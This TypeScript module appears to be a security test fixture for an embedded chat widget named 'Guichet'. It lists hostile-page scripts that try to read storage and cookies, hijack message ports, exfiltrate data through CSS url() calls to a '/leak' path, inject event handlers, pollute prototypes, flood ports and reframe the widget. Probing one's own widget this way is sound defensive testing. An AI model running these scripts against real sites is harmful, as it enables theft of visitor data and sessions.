/** What a hostile page tries once something was said. Each is the body of an async function; what it returns is its loot. */
export const ACTS: readonly (readonly [name: string, script: string])[] = [
  [
    'walks every tree',
    `const walk = (root) => [...root.querySelectorAll('*')].flatMap((node) => [node.textContent, node.value, ...[...node.attributes].map(({ value }) => value), ...(node.shadowRoot ? walk(node.shadowRoot) : [])]);
    return [walk(document), roots.map((root) => root.innerHTML)];`,
  ],
  [
    'reads the frame’s document',
    `const got = []; for (const path of ['contentDocument', 'contentWindow.document', 'contentWindow.localStorage', 'contentWindow.sessionStorage', 'contentWindow.location.href', 'contentWindow.Guichet', 'contentWindow.indexedDB'])
    try { got.push(textOf(path.split('.').reduce((is, name) => is[name], frame), 3)); } catch {} return got;`,
  ],
  [
    'reads all a window gives',
    `const got = []; for (const name of [...Object.getOwnPropertyNames(frame?.contentWindow ?? {}), 'name', 'opener', 'length', 'closed', 'origin', 'event', 'status'])
    try { got.push([name, textOf(frame.contentWindow[name], 1)]); } catch {} return got;`,
  ],
  [
    'reads all storage',
    `return [{ ...localStorage }, { ...sessionStorage }, document.cookie, await caches.keys(), await indexedDB.databases()];`,
  ],
  ['reads timings', `return performance.getEntries().map((entry) => entry.toJSON());`],
  ['reads the history', `return [history.length, history.state, document.referrer, location.href, name];`],
  [
    'walks its own objects',
    `const chat = document.querySelector('guichet-chat'); const symbols = Object.getOwnPropertySymbols(window).map((key) => textOf(window[key], 3));
    return [textOf(chat, 2), Object.getOwnPropertyNames(chat).map((name) => textOf(chat[name], 2)), symbols, textOf(Guichet, 3), JSON.stringify(chat.constructor)];`,
  ],
  [
    'says hello for the frame',
    `postMessage({ guichet: 'hello', nonce: frame?.src.split('#')[1] }, '*'); return answered();`,
  ],
  [
    'hands over a port of its own',
    `return withPort((port, nonce) => frame?.contentWindow.postMessage({ guichet: 'port', nonce }, '*', [port]));`,
  ],
  [
    'replays with a wrong number',
    `return withPort((port) => frame?.contentWindow.postMessage({ guichet: 'port', nonce: '' }, '*', [port]));`,
  ],
  [
    'asks a frame of its own',
    `const own = document.createElement('iframe'); own.src = frame?.src ?? server + '/chat/default'; document.body.append(own);
    const got = await new Promise((resolve) => { const heard = []; const hear = ({ data, source }) => { if (source !== own.contentWindow) return; heard.push(data);
      const { port1, port2 } = new MessageChannel(); port1.onmessage = (event) => heard.push(event.data);
      own.contentWindow.postMessage({ ...data, guichet: 'port' }, '*', [port2]);
      port1.postMessage({ attributes: { framed: 'bubble', 'open-on-load': '' } }); port1.postMessage({ verb: 'open', args: [] }); };
      addEventListener('message', hear); setTimeout(() => { removeEventListener('message', hear); resolve(heard); }, 3000); });
    own.remove(); return got;`,
  ],
  [
    'opens the page in a frame',
    `const own = document.createElement('iframe'); own.src = server + '/chat/default'; document.body.append(own);
    await new Promise((resolve) => { own.onload = resolve; setTimeout(resolve, 2000); });
    let got; try { got = own.contentDocument.body.innerHTML; } catch {} own.remove(); return got;`,
  ],
  [
    'opens the page in a window',
    `const own = open(server + '/chat/default'); await rest(1500); const got = []; for (const name of ['document', 'location', 'localStorage', 'name', 'length'])
    try { got.push(textOf(own[name], 2)); } catch {} try { own?.close(); } catch {} return got;`,
  ],
  [
    'asks the stolen port for anything',
    `const asked = ['constructor', '__proto__', 'innerHTML', 'shadowRoot', 'diagnose', 'outerHTML', 'toString', 'transcript', 'export', 'remove'];
    for (const port of stolen) for (const verb of asked) { port.postMessage({ verb, args: [] }); port.postMessage({ verb, args: ['x', 'y'] }); } return answered();`,
  ],
  [
    'leads the frame to another server',
    `for (const port of stolen) port.postMessage({ attributes: { server: location.origin, site: 'default', src: location.href, onfocus: 'parent.postMessage(document.body.innerHTML, "*")', style: 'background:url(' + location.origin + '/leak)' } });
    for (const port of stolen) port.postMessage({ verb: 'newConversation', args: [] , server: location.origin }); return answered();`,
  ],
  [
    'leads styles to another server',
    `for (const port of stolen) port.postMessage({ attributes: { '--guichet-bg': 'url(' + location.origin + '/leak)', '--guichet-font': 'x;background:url(' + location.origin + '/leak)' } }); return answered();`,
  ],
  [
    'pollutes by messages',
    `for (const port of stolen) for (const text of ['{"__proto__":{"verb":"open"}}', '{"attributes":{"__proto__":{"x":1}}}', '{"verb":{"toString":1},"args":{}}', '[]', '0', '{"verb":"open","args":{"length":0}}'])
    port.postMessage(JSON.parse(text)); return answered();`,
  ],
  [
    'floods the port',
    `for (const port of stolen) for (let times = 0; times < 2000; times++) port.postMessage({ verb: 'setInput', args: ['x'.repeat(10)] });
    for (const port of stolen) port.postMessage({ verb: 'setInput', args: ['y'.repeat(100000)] }); return answered();`,
  ],
  [
    'asks by verbs what they return',
    `const got = []; for (const verb of ['open', 'close', 'toggle', 'setInput', 'identify', 'setContext', 'diagnose', 'setTheme', 'setLocale'])
    got.push(await Guichet[verb]({ toString() { got.push(new Error().stack); return 'x'; } })); got.push(await Guichet.ready); return got.map((is) => textOf(is, 3));`,
  ],
  [
    'asks as a visitor of its own',
    `const post = (path, init = {}) => fetch(server + path, { method: 'POST', headers: { 'Content-Type': 'application/json', ...init }, body: '{}' }).then((answer) => answer.json());
    const { token } = await post('/v1/sites/default/visitors'); const list = await fetch(server + '/v1/conversations', { headers: { Authorization: 'Bearer ' + token } });
    loot['asks as a visitor of its own'] = ''; return (await list.text());`,
  ],
  [
    'asks with the visitor’s cookies',
    `const got = []; for (const path of ['/v1/conversations', '/v1/sites/default', '/chat/default', '/openapi.json'])
    try { got.push(await (await fetch(server + path, { credentials: 'include' })).text()); } catch {} return got;`,
  ],
  [
    'takes answers in as scripts and styles',
    `const got = []; addEventListener('error', ({ message }) => got.push(message)); for (const path of ['/v1/conversations', '/chat/default', '/v1/sites/default']) for (const kind of ['script', 'link', 'img', 'object', 'embed']) {
    const node = document.createElement(kind); node.src = node.href = node.data = server + path; node.rel = 'stylesheet'; document.body.append(node); await rest(50); got.push(node.outerHTML, [...document.styleSheets].length); node.remove(); } return got;`,
  ],
  [
    'selects, finds and copies',
    `document.execCommand('selectAll'); document.execCommand('copy'); const text = getSelection().toString(); const found = self.find?.('zebra'); getSelection().removeAllRanges();
    let clip; try { clip = await navigator.clipboard.readText(); } catch {} return [text, clip, found === true ? 'zebra found' : ''];`,
  ],
  [
    'looks through the glass',
    `const glass = document.createElement('div'); glass.style.cssText = 'position:fixed;inset:0;z-index:2147483647;opacity:.01'; document.body.append(glass);
    const got = []; for (let x = 820; x < 1260; x += 40) for (let y = 200; y < 760; y += 40) { const at = document.elementsFromPoint(x, y); got.push(at.map((node) => node.shadowRoot?.elementFromPoint(x, y)?.textContent ?? node.tagName)); const range = document.caretRangeFromPoint?.(x, y); got.push(range?.startContainer.textContent); }
    glass.remove(); return got;`,
  ],
  [
    'prints',
    `const got = []; addEventListener('beforeprint', () => got.push(document.documentElement.outerHTML, ...roots.map((root) => root.innerHTML)), { once: true }); dispatchEvent(new Event('beforeprint')); return got;`,
  ],
  [
    'draws the frame',
    `const text = new XMLSerializer().serializeToString(document); const svg = '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>' + text + '</foreignObject></svg>';
    const picture = new Image(); picture.src = 'data:image/svg+xml,' + encodeURIComponent(svg); await picture.decode?.().catch(() => {}); return [text, getComputedStyle(frame ?? document.body).content];`,
  ],
  [
    'listens to all channels',
    `const { keys } = Object; const names = [...keys(localStorage), 'guichet:' + server + '|default:signal']; const got = []; const channels = names.map((name) => { const channel = new BroadcastChannel(name); channel.onmessage = ({ data }) => got.push(data); channel.postMessage({ visitor: 'x', conversation: null, what: 'changed' }); return channel; });
    await rest(300); channels.forEach((channel) => channel.close()); return got;`,
  ],
  [
    'runs a worker there',
    `const got = []; for (const Kind of [Worker, SharedWorker]) try { new Kind(server + '/guichet.js'); got.push('ran'); } catch {} try { document.domain = 'localhost'; got.push(textOf(frame.contentDocument, 2)); } catch {} return got;`,
  ],
  [
    'adds policies and attributes',
    `if (!frame) return ''; for (const [name, value] of [['csp', "default-src 'none'"], ['allow', '*'], ['sandbox', 'allow-scripts'], ['name', 'mine'], ['loading', 'lazy'], ['credentialless', '']]) frame.setAttribute(name, value);
    const seen = [open('', 'mine'), frames.mine]; frame.removeAttribute('sandbox'); const got = []; for (const one of seen) try { got.push(textOf(one?.document, 2)); } catch {} return got;`,
  ],
];

/** Those after which there is no chat any more: each has one of its own. */
export const LAST_ACTS: readonly (readonly [name: string, script: string])[] = [
  [
    'leads the frame to its own page',
    `frame.contentWindow.location = location.origin + '/other'; await rest(1000); return [frame.contentDocument.documentElement.outerHTML, { ...frame.contentWindow.localStorage }, frame.contentWindow.name, frame.contentWindow.history.length, frame.contentWindow.performance.getEntries().map(({ name }) => name)];`,
  ],
  [
    'writes a document of its own',
    `frame.srcdoc = '<p>mine</p>'; await rest(1000); return [frame.contentDocument.documentElement.outerHTML, frame.contentWindow.name, document.referrer];`,
  ],
  [
    'goes back in the frame’s history',
    `frame.src = 'about:blank'; await rest(500); history.back(); await rest(1000); const got = []; try { got.push(frame.contentDocument.documentElement.outerHTML); } catch {} return got;`,
  ],
  [
    'moves the frame to a document of its own',
    `const own = document.createElement('iframe'); document.body.append(own); own.contentDocument.body.append(own.contentDocument.adoptNode(frame)); await rest(1500); const got = []; try { got.push(frame.contentDocument?.body.innerHTML); } catch {} return [...got, own.contentDocument.body.innerHTML];`,
  ],
  [
    'loads it again in a box of its own',
    `frame.sandbox = 'allow-scripts allow-same-origin'; frame.src += ''; await rest(1500); const got = []; try { got.push(frame.contentDocument?.body.innerHTML); } catch {} return got;`,
  ],
];
